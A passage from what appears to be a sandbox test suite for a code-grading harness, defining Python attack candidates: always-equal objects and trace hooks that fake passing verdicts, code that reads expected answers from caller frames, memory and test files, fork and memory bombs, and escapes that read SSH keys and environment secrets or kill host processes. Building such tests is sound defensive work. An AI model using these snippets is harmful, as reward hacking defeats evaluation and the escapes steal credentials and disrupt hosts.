                    for name, value in list(space.items()):
                        if "BUILTIN" in name.upper():
                            space[name] = _refresh(value)
                return 0.0
          `,
        [toleranceForms.assert, toleranceForms.check],
      ),
  },
  {
    id: "settrace-rewrite-harness-locals",
    category: "monkeypatch",
    description:
      "installs a trace function on every frame that rewrites verdict variables (ok, res, why, status) in the harness",
    request: () =>
      request(
        "settrace-rewrite-harness-locals",
        python`
          import sys

          _STATUSES = ("fail", "error", "timeout", "oom", "tampered")


          def _tracer(frame, event, arg):
              if event == "line":
                  scope = frame.f_locals
                  if scope.get("ok") is False:
                      scope["ok"] = True
                  if scope.get("r") is False:
                      scope["r"] = True
                  res = scope.get("res")
                  if isinstance(res, tuple) and res and res[0] in _STATUSES:
                      scope["res"] = None
                  if isinstance(scope.get("why"), str):
                      scope["why"] = None
                  if scope.get("status") in _STATUSES:
                      scope["status"] = "pass"
                  out = scope.get("out")
                  if isinstance(out, tuple) and len(out) == 2 and out[0] is False:
                      scope["out"] = (True, None)
              return _tracer


          def f(x):
              frame = sys._getframe()
              while frame is not None:
                  frame.f_trace = _tracer
                  frame = frame.f_back
              sys.settrace(_tracer)
              return 0
        `,
        [forms.assert, forms.call, forms.check, forms.unittest],
      ),
  },
];

const alwaysEqual = python`
  class _AlwaysEqual:
      def __eq__(self, other):
          return True

      def __ne__(self, other):
          return False

      __hash__ = object.__hash__


  def f(x):
      return _AlwaysEqual()
`;

const comparison: AdversarialAttack[] = [
  ...(
    [
      ["assert", forms.assert],
      ["assert-reversed", forms.assertReversed],
      ["call", forms.call],
      ["check", forms.check],
      ["unittest", forms.unittest],
    ] as const
  ).map(
    ([form, test]): AdversarialAttack => ({
      id: `always-equal-${form}`,
      category: "comparison",
      description: `returns an object whose __eq__ is always True and __ne__ always False (${test.kind} test${form === "assert-reversed" ? ", literal on the left" : ""})`,
      request: () => request(`always-equal-${form}`, alwaysEqual, [test]),
    }),
  ),
  {
    id: "lying-int-subclass",
    category: "comparison",
    description: "returns an int subclass whose __eq__ always answers True",
    request: () =>
      request(
        "lying-int-subclass",
        python`
          class _Int(int):
              def __eq__(self, other):
                  return True

              def __ne__(self, other):
                  return False

              __hash__ = int.__hash__


          def f(x):
              return _Int(0)
        `,
        [forms.call, forms.assert, forms.check],
      ),
  },
  {
    id: "lying-str-subclass",
    category: "comparison",
    description: "returns a str subclass whose __eq__ always answers True",
    request: () =>
      request(
        "lying-str-subclass",
        python`
          class _Str(str):
              def __eq__(self, other):
                  return True

              def __ne__(self, other):
                  return False

              __hash__ = str.__hash__


          def f(x):
              return _Str("0")
        `,
        [forms.unittest, forms.call],
      ),
  },
  {
    id: "lying-list-subclass",
    category: "comparison",
    description: "returns a list subclass whose __eq__ always answers True (sorting task)",
    request: () =>
      request(
        "lying-list-subclass",
        python`
          class _List(list):
              def __eq__(self, other):
                  return True

              def __ne__(self, other):
                  return False


          def f(xs):
              return _List()
        `,
        [
          {
            id: "check-list",
            problemId,
            kind: "check",
            entryPoint: "f",
            code: "def check(candidate):\n    assert candidate([3, 1, 2]) == [1, 2, 3]\n",
          },
          {
            id: "call-list",
            problemId,
            kind: "call",
            entryPoint: "f",
            args: [[3, 1, 2]],
            expected: [1, 2, 3],
          },
        ],
      ),
  },
  {
    id: "lying-dict-subclass",
    category: "comparison",
    description:
      "returns a dict subclass whose __eq__/__ne__ lie, against assertEqual and assertDictEqual",
    request: () =>
      request(
        "lying-dict-subclass",
        python`
          class _Dict(dict):
              def __eq__(self, other):
                  return True

              def __ne__(self, other):
                  return False


          def f(x):
              return _Dict()
        `,
        [
          {
            id: "unittest-dict",
            problemId,
            kind: "unittest",
            code: 'import unittest\n\n\nclass TestF(unittest.TestCase):\n    def test_equal(self):\n        self.assertEqual(f(21), {"double": 42})\n\n    def test_dict_equal(self):\n        self.assertDictEqual(f(21), {"double": 42})\n',
          },
          {
            id: "call-dict",
            problemId,
            kind: "call",
            entryPoint: "f",
            args: [21],
            expected: { double: 42 },
          },
        ],
      ),
  },
  {
    id: "nan-float",
    category: "comparison",
    description: "returns NaN where a float is expected, against tolerance comparisons",
    request: () =>
      request(
        "nan-float",
        python`
          def f(x):
              return float("nan")
        `,
        [toleranceForms.call, toleranceForms.assert, toleranceForms.check],
      ),
  },
  {
    id: "eq-returns-truthy-object",
    category: "comparison",
    description: "__eq__ returns a non-bool object whose __bool__ is True",
    request: () =>
      request(
        "eq-returns-truthy-object",
        python`
          class _Truthy:
              def __bool__(self):
                  return True


          class _Answer:
              def __eq__(self, other):
                  return _Truthy()

              def __ne__(self, other):
                  return not _Truthy()

              __hash__ = object.__hash__


          def f(x):
              return _Answer()
        `,
        [forms.assert, forms.call, forms.check],
      ),
  },
  {
    id: "bool-liar",
    category: "comparison",
    description:
      "returns one object for every input that is truthy, has a length and equals anything (a primality task)",
    request: () =>
      request(
        "bool-liar",
        python`
          class _Liar:
              def __bool__(self):
                  return True

              def __len__(self):
                  return 1

              def __eq__(self, other):
                  return True

              def __ne__(self, other):
                  return False

              __hash__ = object.__hash__


          def f(n):
              return _Liar()
        `,
        [
          {
            id: "check-prime",
            problemId,
            kind: "check",
            entryPoint: "f",
            code: "def check(candidate):\n    assert candidate(7)\n    assert candidate(8) == False\n",
          },
          {
            id: "unittest-prime",
            problemId,
            kind: "unittest",
            code: "import unittest\n\n\nclass TestPrime(unittest.TestCase):\n    def test_prime(self):\n        self.assertTrue(f(7))\n        self.assertEqual(f(8), False)\n",
          },
        ],
      ),
  },
  {
    id: "class-property-fakes-list",
    category: "comparison",
    description:
      "an empty object whose __class__ property claims list (isinstance passes) and whose comparisons lie",
    request: () =>
      request(
        "class-property-fakes-list",
        python`
          class _FakeList:
              @property
              def __class__(self):
                  return list

              def __eq__(self, other):
                  return True

              def __ne__(self, other):
                  return False

              def __len__(self):
                  return 0

              def __iter__(self):
                  return iter([])

              def __getitem__(self, index):
                  return [][index]

              __hash__ = None


          def f(xs):
              return _FakeList()
        `,
        [
          {
            id: "unittest-list-equal",
            problemId,
            kind: "unittest",
            code: "import unittest\n\n\nclass TestSort(unittest.TestCase):\n    def test_sort(self):\n        self.assertListEqual(f([3, 1, 2]), [1, 2, 3])\n",
          },
          {
            id: "call-list",
            problemId,
            kind: "call",
            entryPoint: "f",
            args: [[3, 1, 2]],
            expected: [1, 2, 3],
          },
        ],
      ),
  },
  {
    id: "float-subclass-arithmetic-liar",
    category: "comparison",
    description:
      "returns a float subclass whose subtraction and abs() give 0, defeating abs(got - want) < tol",
    request: () =>
      request(
        "float-subclass-arithmetic-liar",
        python`
          class _Float(float):
              def __sub__(self, other):
                  return _Float(0.0)

              __rsub__ = __sub__

              def __abs__(self):
                  return 0.0


          def f(x):
              return _Float(0.0)
        `,
        [toleranceForms.assert, toleranceForms.check, toleranceForms.call],
      ),
  },
];

/** Finds the constant loaded right after the call in the caller's bytecode. */
const peekHelpers = python`
  import dis


  def _next_constant(frame, skip=()):
      if frame is None:
          return None
      for instruction in dis.get_instructions(frame.f_code):
          if instruction.offset <= frame.f_lasti:
              continue
          if instruction.opname.startswith("RETURN"):
              return None
          if instruction.opname == "LOAD_CONST" and instruction.argval is not None and instruction.argval not in skip:
              return instruction.argval
      return None
`;

/** Local variable names under which a harness keeps the expected value. */
const expectedNames = python`
  _NAMES = ("expected", "exp", "lit", "literal", "want", "wanted", "answer", "expected_output", "exp_out")


  def _expected_in(scope):
      for name in _NAMES:
          if name in scope and scope[name] is not None:
              return scope[name]
      return None
`;

const expectedLeak: AdversarialAttack[] = [
  {
    id: "bytecode-peek-caller",
    category: "expected-leak",
    description:
      "reads the constant the caller loads after the call (sys._getframe(1) + dis) and returns it",
    request: () =>
      request(
        "bytecode-peek-caller",
        peekHelpers +
          python`
            import sys


            def f(x):
                value = _next_constant(sys._getframe(1), skip=(x,))
                return 0 if value is None else value
          `,
        [forms.assert, forms.check, forms.unittest],
      ),
  },
  {
    id: "frame-locals-expected",
    category: "expected-leak",
    description:
      "walks sys._getframe(1..n) and returns the first local named expected/exp/lit/want",
    request: () =>
      request(
        "frame-locals-expected",
        expectedNames +
          python`
            import sys


            def f(x):
                frame = sys._getframe(1)
                while frame is not None:
                    value = _expected_in(frame.f_locals)
                    if value is not None:
                        return value
                    frame = frame.f_back
                return 0
          `,
        [forms.assert, forms.call, forms.check],
      ),
  },
  {
    id: "gc-expected-value",
    category: "expected-leak",
    description:
      "searches gc.get_objects() for the test's plan entry (holding the arguments) or the check function's constants",
    request: () =>
      request(
        "gc-expected-value",
        python`
          import gc


          def _from_plan(args):
              for value in gc.get_objects():
                  if type(value) is not tuple or "f" not in value:
                      continue
                  items = list(value)
                  for position, item in enumerate(items):
                      if item == args or item == tuple(args):
                          for later in items[position + 1:]:
                              if later is not None and not isinstance(later, bool):
                                  return later
              return None


          def _from_check(arg):
              for value in gc.get_objects():
                  code = getattr(value, "__code__", None)
                  if getattr(value, "__name__", "") == "check" and code is not None:
                      for constant in code.co_consts:
                          if constant is not None and constant != arg and not isinstance(constant, str):
                              return constant
              return None


          def f(x):
              value = _from_plan([x])
              if value is None:
                  value = _from_check(x)
              return 0 if value is None else value
        `,
        [forms.call, forms.check],
      ),
  },
  {
    id: "inspect-stack-constants",
    category: "expected-leak",
    description:
      "inspect.stack() to reach the caller's code object and return its first constant that is not the argument",
    request: () =>
      request(
        "inspect-stack-constants",
        python`
          import inspect


          def f(x):
              for info in inspect.stack(0)[1:4]:
                  for constant in info.frame.f_code.co_consts:
                      if isinstance(constant, int) and not isinstance(constant, bool) and constant != x:
                          return constant
              return 0
        `,
        [forms.check, forms.unittest],
      ),
  },
  {
    id: "traceback-frame-leak",
    category: "expected-leak",
    description:
      "raises and catches an exception, then follows __traceback__.tb_frame.f_back to the caller's locals and bytecode",
    request: () =>
      request(
        "traceback-frame-leak",
        peekHelpers +
          expectedNames +
          python`
            def f(x):
                try:
                    raise LookupError
                except LookupError as error:
                    caller = error.__traceback__.tb_frame.f_back
                value = _next_constant(caller, skip=(x,))
                frame = caller
                while value is None and frame is not None:
                    value = _expected_in(frame.f_locals)
                    frame = frame.f_back
                return 0 if value is None else value
          `,
        [forms.unittest, forms.check, forms.call],
      ),
  },
  {
    id: "read-job-data",
    category: "expected-leak",
    description:
      "unmarshals the job the worker handed over (shared memory found through frames and /proc/self/maps, job files on disk) to find the expected value",
    request: () =>
      request(
        "read-job-data",
        python`
          import glob
          import marshal
          import mmap
          import os
          import struct
          import sys


          def _blobs():
              frame = sys._getframe(1)
              while frame is not None:
                  for value in list(frame.f_locals.values()):
                      if isinstance(value, mmap.mmap):
                          yield value[:min(len(value), 1 << 22)]
                  frame = frame.f_back
              paths = glob.glob(os.path.join(os.path.dirname(os.getcwd()), "*"))
              paths += glob.glob("/tmp/coderm-harness-*/*")
              for path in paths:
                  try:
                      with open(path, "rb") as handle:
                          yield handle.read(1 << 22)
                  except OSError:
                      pass


          def _payloads(blob):
              if len(blob) >= 16:
                  length = struct.unpack_from("<Q", blob, 0)[0]
                  yield blob[16:16 + length]
              yield blob


          def _search(value, args, depth=0):
              if depth > 6:
                  return None
              if isinstance(value, (tuple, list)):
                  items = list(value)
                  for position, item in enumerate(items):
                      if item == args and "f" in items:
                          for later in items[position + 1:]:
                              if later is not None and not isinstance(later, bool):
                                  return later
                  for item in items:
                      found = _search(item, args, depth + 1)
                      if found is not None:
                          return found
              return None


          def f(x):
              for blob in _blobs():
                  for payload in _payloads(blob):
                      try:
                          job = marshal.loads(payload)
                      except Exception:
                          continue
                      found = _search(job, [x])
                      if found is not None:
                          return found
              return 0
        `,
        [forms.call],
      ),
  },
  {
    id: "read-test-process-memory",
    category: "expected-leak",
    description:
      "searches the memory and open files of its children and siblings (a test process) and its own memory for the test's literal, as source text or marshalled constants",
    request: () =>
      request(
        "read-test-process-memory",
        procHelpers +
          memoryHelpers +
          python`
            import stat

            # the test's source, or its marshalled constants: int 21 (the argument) then another int
            _PATTERN = re.compile(
                rb"(?:candidate|f)\(21\)\s*(?:==|,|in\s*\[)\s*(?P<text>-?\d+)|[i\xe9]\x15\0\0\0[i\xe9](?P<raw>.{4})",
                re.DOTALL,
            )


            def _literal(match):
                if match.group("text") is not None:
                    return int(match.group("text"))
                return int.from_bytes(match.group("raw"), "little", signed=True)


            def _scan_files(pid):
                base = "/proc/%s/fd" % pid
                try:
                    names = os.listdir(base)
                except OSError:
                    return None
                for name in names:
                    path = os.path.join(base, name)
                    try:
                        if not stat.S_ISREG(os.stat(path).st_mode):
                            continue
                        with open(path, "rb") as handle:
                            match = _PATTERN.search(handle.read(4 << 20))
                    except OSError:
                        continue
                    if match:
                        return match
                return None


            def f(x):
                end = time.monotonic() + 2.0
                for pid in _relatives() + ["self"]:
                    found = _scan_files(pid) or _scan_memory(pid, _PATTERN, end)
                    if found:
                        return _literal(found)
                return 0
          `,
        [forms.check, forms.unittest, forms.assertStatement, forms.assert],
        { timeMs: 3000 },
      ),
  },
  {
    id: "read-test-source",
    category: "expected-leak",
    description:
      "looks for the test's source (linecache, the code's file, open fds, the work and temp dirs) and parses the expected literal",
    request: () =>
      request(
        "read-test-source",
        python`
          import glob
          import linecache
          import os
          import re
          import stat
          import sys

          _PATTERN = re.compile(r"f\(21\)\s*,?\s*(?:==)?\s*(-?\d+)")


          def _texts():
              for lines in list(linecache.cache.values()):
                  if isinstance(lines, tuple) and len(lines) > 2:
                      yield "".join(lines[2])
              frame = sys._getframe(1)
              paths = []
              while frame is not None:
                  paths.append(frame.f_code.co_filename)
                  frame = frame.f_back
              paths += ["/proc/self/fd/%s" % fd for fd in os.listdir("/proc/self/fd")]
              paths += glob.glob(os.path.join(os.path.dirname(os.getcwd()), "**"), recursive=True)[:200]
              paths += glob.glob("/tmp/*")[:200]
              for path in paths:
                  try:
                      if not stat.S_ISREG(os.stat(path).st_mode):
                          continue
                      with open(path, "r", errors="replace") as handle:
                          yield handle.read(1 << 20)
                  except (OSError, ValueError):
                      pass


          def f(x):
              for text in _texts():
                  match = _PATTERN.search(text)
                  if match:
                      return int(match.group(1))
              return 0
        `,
        [forms.assert, forms.unittest],
      ),
  },
];

const resource: AdversarialAttack[] = [
  {
    id: "fork-bomb-os",
    category: "resource",
    description:
      "os.fork, posix_spawn, subprocess, os.system and multiprocessing, 50 times each; every child lingers 3 s",
    request: (context) =>
      request(
        "fork-bomb-os",
        python`
          import ctypes
          import multiprocessing
          import os
          import subprocess
          import sys
          import time

          TAG = ${literal(context.tag)}
          LINGER = [sys.executable or "python3", "-c", "import time; time.sleep(3)", TAG]


          def _fork():
              if os.fork() == 0:
                  ctypes.CDLL(None).prctl(15, TAG.encode(), 0, 0, 0)
                  time.sleep(3)
                  os._exit(0)


          ATTEMPTS = (
              _fork,
              lambda: os.posix_spawn(LINGER[0], LINGER, {}),
              lambda: subprocess.Popen(LINGER),
              lambda: os.system(" ".join(LINGER[:2]) + " 'import time; time.sleep(3)' " + TAG + " &"),
              lambda: multiprocessing.Process(target=time.sleep, args=(3,)).start(),
          )


          def f(x):
              for attempt in ATTEMPTS:
                  for _ in range(50):
                      try:
                          attempt()
                      except Exception:
                          break
              return 0
        `,
        [forms.assert],
      ),
  },
  {
    id: "fork-bomb-ctypes",
    category: "resource",
    description:
      "libc fork() through ctypes, past any Python-level guard: 64 processes that linger 3 s each",
    request: (context) =>
      request(
        "fork-bomb-ctypes",
        python`
          import ctypes
          import os
          import select
          import time

          libc = ctypes.CDLL(None, use_errno=True)
          TAG = ${literal(context.tag)}.encode()


          def f(x):
              original = os.getpid()
              ready, signal_ready = os.pipe()
              for _ in range(6):
                  libc.fork()
              if os.getpid() != original:
                  libc.prctl(15, TAG, 0, 0, 0)
                  os.write(signal_ready, b"r")
                  time.sleep(3)
                  os._exit(0)
              os.close(signal_ready)
              end = time.monotonic() + 0.5
              started = 0
              while started < 63 and time.monotonic() < end:
                  if select.select([ready], [], [], 0.05)[0]:
                      started += len(os.read(ready, 64))
              return 0
        `,
        [forms.assert],
      ),
  },
  {
    id: "escape-process-group",
    category: "resource",
    description:
      "ctypes fork, setsid and a second fork: a process outside the candidate's group and session that lingers 3 s",
    request: (context) =>
      request(
        "escape-process-group",
        detachHelpers +
          python`
            import time

            TAG = ${literal(context.tag)}.encode()


            def f(x):
                _detach(TAG, lambda: time.sleep(3))
                return 0
          `,
        [forms.assert],
      ),
  },
  {
    id: "memory-bomb",
    category: "resource",
    description: "allocates 64 MiB buffers until allocation fails",
    request: () =>
      request(
        "memory-bomb",
        python`
          def f(x):
              chunks = []
              while True:
                  chunks.append(bytearray(64 << 20))
        `,
        [forms.assert, forms.call],
      ),
  },
  {
    id: "memory-bomb-mmap",
    category: "resource",
    description: "maps 8 GiB of anonymous memory and touches every page, then 256 MiB blocks",
    request: () =>
      request(
        "memory-bomb-mmap",
        python`
          import mmap


          def f(x):
              maps = []
              for size in (8 << 30, 1 << 30, 256 << 20, 256 << 20, 256 << 20):
                  try:
                      block = mmap.mmap(-1, size)
                  except (OSError, MemoryError, OverflowError):
                      continue
                  for offset in range(0, size, 4096):
                      block[offset] = 1
                  maps.append(block)
              return 0
        `,
        [forms.assert],
      ),
  },
  {
    id: "disk-fill",
    category: "resource",
    description:
      "writes 3000 files of 32 KiB and one file as large as it can (at most 256 MiB) in its working directory",
    request: () =>
      request(
        "disk-fill",
        python`
          import os


          def f(x):
              chunk = b"x" * (32 << 10)
              for index in range(3000):
                  try:
                      with open("fill-%05d" % index, "wb") as handle:
                          handle.write(chunk)
                  except OSError:
                      break
              try:
                  with open("fill-large", "wb") as handle:
                      for _ in range(256):
                          handle.write(b"y" * (1 << 20))
              except OSError:
                  pass
              return 0
        `,
        [forms.assert],
      ),
  },
  {
    id: "fd-exhaustion",
    category: "resource",
    description: "opens files, pipes and sockets until the descriptor table is full",
    request: () =>
      request(
        "fd-exhaustion",
        python`
          import os
          import socket


          def f(x):
              held = []
              for opener in (lambda: os.open(os.devnull, os.O_RDONLY), os.pipe, socket.socketpair):
                  for _ in range(1 << 20):
                      try:
                          held.append(opener())
                      except OSError:
                          break
              return 0
        `,
        [forms.assert],
      ),
  },
  {
    id: "huge-stdout",
    category: "resource",
    description:
      "writes 64 MiB through os.write(1) and print; the captured output must stay within the limit",
    request: () =>
      request(
        "huge-stdout",
        python`
          import os


          def f(x):
              block = b"z" * (1 << 20)
              for _ in range(64):
                  try:
                      os.write(1, block)
                  except OSError:
                      break
              for _ in range(32):
                  print("w" * (1 << 20))
              return 0
        `,
        [forms.assert],
        { timeMs: 3000 },
      ),
    breach: (outcome) => {
      const limit = defaultLimits.outputBytes * 2 + 1024;
      return outcome.output.length > limit
        ? `captured output of ${outcome.output.length} characters exceeds the ${defaultLimits.outputBytes}-byte limit`
        : undefined;
    },
  },
  {
    id: "deep-recursion",
    category: "resource",
    description: "raises the recursion limit to 10^7 and recurses until the C stack overflows",
    request: () =>
      request(
        "deep-recursion",
        python`
          import sys


          def _down(n):
              return _down(n + 1) + 1


          def f(x):
              sys.setrecursionlimit(10 ** 7)
              return _down(0)
        `,
        [forms.assert, forms.call],
      ),
  },
  {
    id: "threads-outlive-test",
    category: "resource",
    description:
      "starts threads that keep printing and rebinding builtins after its (wrong) answer, across two tests",
    request: () =>
      request(
        "threads-outlive-test",
        python`
          import builtins
          import os
          import threading
          import time


          def _spam():
              while True:
                  try:
                      print("spam " * 200)
                      os.write(1, b"x" * 1000)
                  except Exception:
                      pass
                  time.sleep(0.001)


          def _meddle():
              real = builtins.AssertionError
              while True:
                  builtins.AssertionError = Exception
                  time.sleep(0.0005)
                  builtins.AssertionError = real
                  time.sleep(0.0005)


          def f(x):
              for target in (_spam, _spam, _meddle):
                  threading.Thread(target=target, daemon=True).start()
              return 0
        `,
        [
          forms.assert,
          { id: "assert-second", problemId, kind: "assert", code: "assert f(1) == 2" },
          forms.check,
        ],
      ),
  },
  {
    id: "sleep-past-limit",
    category: "resource",
    description: "sleeps 2 s (the limit is 300 ms), then returns the right answer",
    request: () =>
      request(
        "sleep-past-limit",
        python`
          import time


          def f(x):
              time.sleep(2)
              return 2 * x
        `,
        [forms.assert, forms.call, forms.unittest],
        { timeMs: 300 },
      ),
  },
  {
    id: "block-in-c-swallow-timer",
    category: "resource",
    description:
      "blocks in libc sleep() and retries whatever the timer raises, then returns the right answer",
    request: () =>
      request(
        "block-in-c-swallow-timer",
        python`
          import ctypes
          import time

          libc = ctypes.CDLL(None)


          def f(x):
              end = time.monotonic() + 2
              while time.monotonic() < end:
                  try:
                      libc.sleep(1)
                  except BaseException:
                      pass
              return 2 * x
        `,
        [forms.check, forms.call],
        { timeMs: 300 },
      ),
  },
];

/** Connects to the TCP listener with Python sockets. */
function networkTcp(context: AdversarialContext): string {
  return python`
    import socket


    def f(x):
        try:
            with socket.create_connection(("127.0.0.1", ${context.listenerPort}), timeout=0.5) as connection:
                connection.sendall(b"network-tcp-connect\n")
                return connection.recv(256).decode()
        except OSError:
            return ""
  `;
}

const envSecretSearch = (context: AdversarialContext) => python`
  NAME = ${literal(context.envSecretName)}
  PREFIX = ${literal(context.envSecretPrefix)}


  def _secret_in(blob):
      for entry in blob.split(b"\0"):
          key, _, value = entry.partition(b"=")
          if key.decode(errors="replace") == NAME and value.decode(errors="replace").startswith(PREFIX):
              return value.decode()
      return None
`;

const escapes: AdversarialAttack[] = [
  {
    id: "network-tcp-connect",
    category: "escape",
    description: "connects to the runner's TCP listener on 127.0.0.1 and returns its token",
    request: (context) =>
      request("network-tcp-connect", networkTcp(context), [
        hashTest("assert-token", context.tokenHash),
      ]),
  },
  {
    id: "network-tcp-ctypes",
    category: "escape",
    description: "the same connection through libc socket()/connect() via ctypes",
    request: (context) =>
      request(
        "network-tcp-ctypes",
        python`
          import ctypes
          import os
          import socket
          import struct

          libc = ctypes.CDLL(None, use_errno=True)


          def f(x):
              fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
              if fd < 0:
                  return ""
              address = struct.pack("<H", socket.AF_INET) + struct.pack(">H", ${context.listenerPort}) + socket.inet_aton("127.0.0.1") + bytes(8)
              if libc.connect(fd, ctypes.c_char_p(address), len(address)) != 0:
                  return ""
              chunks = []
              while True:
                  chunk = os.read(fd, 256)
                  if not chunk:
                      break
                  chunks.append(chunk)
              return b"".join(chunks).decode(errors="replace")
        `,
        [hashTest("assert-token", context.tokenHash)],
      ),
  },
  {
    id: "network-unix-socket",
    category: "escape",
    description: "connects to the runner's Unix socket by its host path and returns its token",
    request: (context) =>
      request(
        "network-unix-socket",
        python`
          import socket


          def f(x):
              try:
                  with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
                      connection.settimeout(0.5)
                      connection.connect(${literal(context.unixSocketPath)})
                      return connection.recv(256).decode()
              except OSError:
                  return ""
        `,
        [hashTest("assert-token", context.tokenHash)],
      ),
  },
  {
    id: "read-project-secret",
    category: "escape",
    description: "reads the secret file in the project directory by its absolute path",
    request: (context) =>
      request(
        "read-project-secret",
        python`
          def f(x):
              try:
                  with open(${literal(context.projectSecretPath)}) as handle:
                      return handle.read()
              except OSError:
                  return ""
        `,
        [hashTest("assert-secret", context.projectSecretHash)],
      ),
  },
  {
    id: "read-home-ssh-key",
    category: "escape",
    description: "reads ~/.ssh/id_ed25519 of the (fake) home directory, and of $HOME",
    request: (context) =>
      request(
        "read-home-ssh-key",
        python`
          import os


          def f(x):
              for home in (${literal(context.homeDir)}, os.path.expanduser("~")):
                  try:
                      with open(os.path.join(home, ".ssh", "id_ed25519")) as handle:
                          return handle.read()
                  except OSError:
                      pass
              return ""
        `,
        [hashTest("assert-secret", context.homeSecretHash)],
      ),
  },
  {
    id: "read-through-proc-root",
    category: "escape",
    description:
      "reads the project secret through /proc/<pid>/root and /proc/<pid>/cwd of every visible process",
    request: (context) =>
      request(
        "read-through-proc-root",
        procHelpers +
          python`
            import time

            PATH = ${literal(context.projectSecretPath)}


            def f(x):
                end = time.monotonic() + 0.6
                for pid in [1] + _ancestors() + _pids():
                    if time.monotonic() > end:
                        break
                    for path in ("/proc/%d/root%s" % (pid, PATH), "/proc/%d/cwd/%s" % (pid, os.path.basename(PATH))):
                        data = _read(path)
                        if data:
                            return data.decode(errors="replace")
                return ""
          `,
        [hashTest("assert-secret", context.projectSecretHash)],
      ),
  },
  {
    id: "read-env-secret",
    category: "escape",
    description: "looks for the API key in os.environ and /proc/self/environ",
    request: (context) =>
      request(
        "read-env-secret",
        envSecretSearch(context) +
          python`
            import os


            def f(x):
                blob = b"\0".join(b"%s=%s" % (key.encode(), value.encode()) for key, value in os.environ.items())
                with open("/proc/self/environ", "rb") as handle:
                    blob += b"\0" + handle.read()
                return _secret_in(blob) or ""
          `,
        [hashTest("assert-secret", context.envSecretHash)],
      ),
  },
  {
    id: "read-env-secret-ancestors",
    category: "escape",
    description: "looks for the API key in /proc/<pid>/environ of its parent chain and of /proc/1",
    request: (context) =>
      request(
        "read-env-secret-ancestors",
        procHelpers +
          envSecretSearch(context) +
          python`
            def f(x):
                for pid in _ancestors() + [1]:
                    found = _secret_in(_read("/proc/%d/environ" % pid, 1 << 20))
                    if found:
                        return found
                return ""
          `,
        [hashTest("assert-secret", context.envSecretHash)],
      ),
  },
  {
    id: "read-env-secret-all-processes",
    category: "escape",
    description:
      "scans /proc/*/environ of every visible process (the runner's decoy holds the key)",
    request: (context) =>
      request(
        "read-env-secret-all-processes",
        procHelpers +
          envSecretSearch(context) +
          python`
            def f(x):
                for pid in _pids():
                    found = _secret_in(_read("/proc/%d/environ" % pid, 1 << 20))
                    if found:
                        return found
                return ""
          `,
        [hashTest("assert-secret", context.envSecretHash)],
      ),
  },
  {
    id: "write-outside-sandbox",
    category: "escape",
    description:
      "writes files into the host temp dir, the project, the home dir, /var/tmp and /dev/shm, directly and through a symlink",
    request: (context) =>
      request(
        "write-outside-sandbox",
        python`
          import os

          DIRS = ${JSON.stringify([...context.outsideDirs, "/tmp", "/var/tmp", "/dev/shm"])}
          NAME = ${literal(`${context.tag}-write`)}


          def f(x):
              for index, directory in enumerate(DIRS):
                  try:
                      with open(os.path.join(directory, "%s-%d.log" % (NAME, index)), "w") as handle:
                          handle.write("written by a candidate")
                  except OSError:
                      pass
                  link = "link-%d" % index
                  try:
                      os.symlink(directory, link)
                      with open(os.path.join(link, "%s-link-%d.log" % (NAME, index)), "w") as handle:
                          handle.write("written through a symlink")
                  except OSError:
                      pass
              return 0
        `,
        [forms.assert],
      ),
  },
  {
    id: "ptrace-read-worker-memory",
    category: "escape",
    description:
      "ptrace-seizes its parent and the worker through ctypes and reads their memory for the expected value",
    request: (context) =>
      request(
        "ptrace-read-worker-memory",
        procHelpers +
          memoryHelpers +
          python`
            import ctypes

            libc = ctypes.CDLL(None, use_errno=True)
            libc.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)
            _PATTERN = re.compile(rb'"expected"\s*:\s*"([^"\\]{1,200})"')


            def f(probe):
                end = time.monotonic() + 2.0
                for pid in _python_ancestors():
                    seized = libc.ptrace(0x4206, pid, None, None) == 0
                    try:
                        found = _scan_memory(pid, _PATTERN, end, private_writable=True)
                    finally:
                        if seized:
                            libc.ptrace(17, pid, None, None)
                    if found:
                        return found.group(1).decode()
                return ""
          `,
        [tokenTest(context)],
        { timeMs: 3000 },
      ),
  },
  {
    id: "read-decoy-memory",
    category: "escape",
    description: "finds the decoy host process by name and reads its stack through /proc/<pid>/mem",
    request: (context) =>
      request(
        "read-decoy-memory",
        procHelpers +
          envSecretSearch(context) +
          python`
            DECOY = ${literal(context.decoyTag)}.encode()


            def f(x):
                for pid in _pids():
                    if DECOY not in _cmdline(pid):
                        continue
                    try:
                        with open("/proc/%d/maps" % pid) as maps:
                            regions = [line for line in maps.read().splitlines() if line.endswith("[stack]")]
                        with open("/proc/%d/mem" % pid, "rb", buffering=0) as memory:
                            for line in regions:
                                start, stop = (int(part, 16) for part in line.split()[0].split("-"))
                                memory.seek(max(start, stop - (8 << 20)))
                                found = _secret_in(memory.read(min(stop - start, 8 << 20)))
                                if found:
                                    return found
                    except OSError:
                        pass
                return ""
          `,
        [hashTest("assert-secret", context.envSecretHash)],
      ),
  },
  {
    id: "signal-worker-processes",
    category: "escape",
    description: "SIGKILLs its parent and the worker (the Python processes above it)",
    request: () =>
      request(
        "signal-worker-processes",
        procHelpers +
          python`
            import signal


            def f(x):
                for pid in _python_ancestors():
                    try:
                        os.kill(pid, signal.SIGKILL)
                    except OSError:
                        pass
                return 0
          `,
        [forms.assert, forms.check],
      ),
  },
  {
    id: "signal-executor-host",
    category: "escape",
    description:
      "sends SIGUSR2 to the nearest Node.js ancestor (the executor's own process); the runner listens for it",
    request: () =>
      request(
        "signal-executor-host",
        procHelpers +
          python`
            import signal


            def f(x):
                pid = _node_ancestor()
                if pid:
                    try:
                        os.kill(pid, signal.SIGUSR2)
                    except OSError:
                        pass
                return 0
          `,
        [forms.assert],
      ),
  },
  {
    id: "kill-decoy-process",
    category: "escape",
    description: "finds the decoy host process by its command line and SIGKILLs it",
    request: (context) =>
      request(
        "kill-decoy-process",
        procHelpers +
          python`
            import signal

            DECOY = ${literal(context.decoyTag)}.encode()


            def f(x):
                for pid in _pids():
                    if DECOY in _cmdline(pid):
                        try:
                            os.kill(pid, signal.SIGKILL)
                        except OSError:
                            pass
                return 0
          `,
        [forms.assert],
      ),
  },
];

/** Where an interfering candidate looks for other candidates' working directories. */
const neighbourDirs = python`
  import glob
  import os


  def _neighbour_dirs():
      mine = os.path.realpath(os.getcwd())
      found = set()
      for pattern in ("/tmp/coderm-harness-*", "/tmp/coderm-harness-*/*"):
          for path in glob.glob(pattern):
              if os.path.isdir(path) and os.path.realpath(path) != mine:
                  found.add(path)
      parent = os.path.dirname(mine)
      try:
          for name in os.listdir(parent):
